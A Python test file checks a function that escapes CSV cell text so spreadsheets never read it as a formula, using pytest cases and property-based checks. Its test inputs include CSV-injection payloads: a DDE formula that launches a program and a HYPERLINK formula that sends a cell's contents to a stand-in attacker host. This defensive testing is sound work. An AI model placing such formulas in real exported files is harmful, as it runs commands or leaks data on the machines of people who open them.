"""Spreadsheet text: no formula starts in a CSV file, and nothing is lost on the way back."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generators.escape import spreadsheet_text
from tests.hostile import corpus

FORMULA_SIGNS = "=+-@＝＋－＠"
FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "＝1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_told_to_be_text(formula: str) -> None:
    assert spreadsheet_text(formula) == "'" + formula


@pytest.mark.parametrize("plain", ["", "claude-opus-5", "1=1", "a\tb", "vendor/model@1", "(=1)", "3.5"])
def test_plain_text_passes_unchanged(plain: str) -> None:
    assert spreadsheet_text(plain) == plain


@given(st.text())
def test_one_apostrophe_less_is_the_text(raw: str) -> None:
    shown = spreadsheet_text(raw)
    assert (shown[1:] if shown.startswith("'") else shown) == raw


@given(st.text(alphabet=FORMULA_SIGNS + " \t\r\n'a\x00\u00a0\ufeff"))
def test_no_text_begins_a_formula(raw: str) -> None:
    shown = spreadsheet_text(raw)
    assert not shown.strip(" \t\r\n\x00\u00a0\ufeff").startswith(tuple(FORMULA_SIGNS))
    assert not shown.startswith(("\t", "\r", "\n"))


def test_the_hostile_corpus_begins_no_formula() -> None:
    for entry in corpus():
        assert not spreadsheet_text(entry.text).lstrip().startswith(tuple(FORMULA_SIGNS)), entry.name
